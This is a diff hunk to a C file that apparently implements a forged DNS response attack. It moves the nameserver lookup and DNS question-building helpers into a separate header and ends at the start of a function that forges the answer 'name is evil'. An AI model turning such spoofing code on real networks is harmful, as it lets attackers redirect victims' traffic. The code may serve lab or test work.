@@ -25,50 +25,10 @@
  * or net.ipv4.ip_unprivileged_port_start <= 53, as in most containers).
  */
 #include "attack.h"
-#include <arpa/inet.h>
-#include <netinet/in.h>
+#include "dns_query.h"
 #include <poll.h>
 
 #define FORGER "127.0.0.9"
-
-static int nameserver(struct sockaddr_in *sa) {
-    FILE *f = fopen("/etc/resolv.conf", "r");
-    char line[256], addr[64];
-    if (!f)
-        return -1;
-    int found = -1;
-    while (fgets(line, sizeof line, f))
-        if (sscanf(line, "nameserver %63s", addr) == 1) {
-            memset(sa, 0, sizeof *sa);
-            sa->sin_family = AF_INET;
-            sa->sin_port = htons(53);
-            found = inet_pton(AF_INET, addr, &sa->sin_addr) == 1 ? 0 : -1;
-            break;
-        }
-    fclose(f);
-    return found;
-}
-
-/* A question for name (type A, class IN) after a 12-byte header of id; its length. */
-static size_t question(unsigned char *q, uint16_t id, uint16_t flags, uint16_t answers,
-                       const char *name) {
-    size_t n = 0;
-    unsigned char head[12] = {id >> 8, id & 0xff, flags >> 8, flags & 0xff, 0, 1,
-                              answers >> 8, answers & 0xff, 0, 0, 0, 0};
-    memcpy(q, head, sizeof head);
-    n = sizeof head;
-    for (const char *p = name; *p;) {
-        const char *dot = strchr(p, '.');
-        size_t len = dot ? (size_t)(dot - p) : strlen(p);
-        q[n++] = (unsigned char)len;
-        memcpy(q + n, p, len);
-        n += len;
-        p += len + (dot ? 1 : 0);
-    }
-    const unsigned char tail[] = {0, 0, 1, 0, 1};
-    memcpy(q + n, tail, sizeof tail);
-    return n + sizeof tail;
-}
 
 /* The answer "name is evil" to the query of id. */
 static size_t forged(unsigned char *r, uint16_t id, const char *name, struct in_addr evil) {
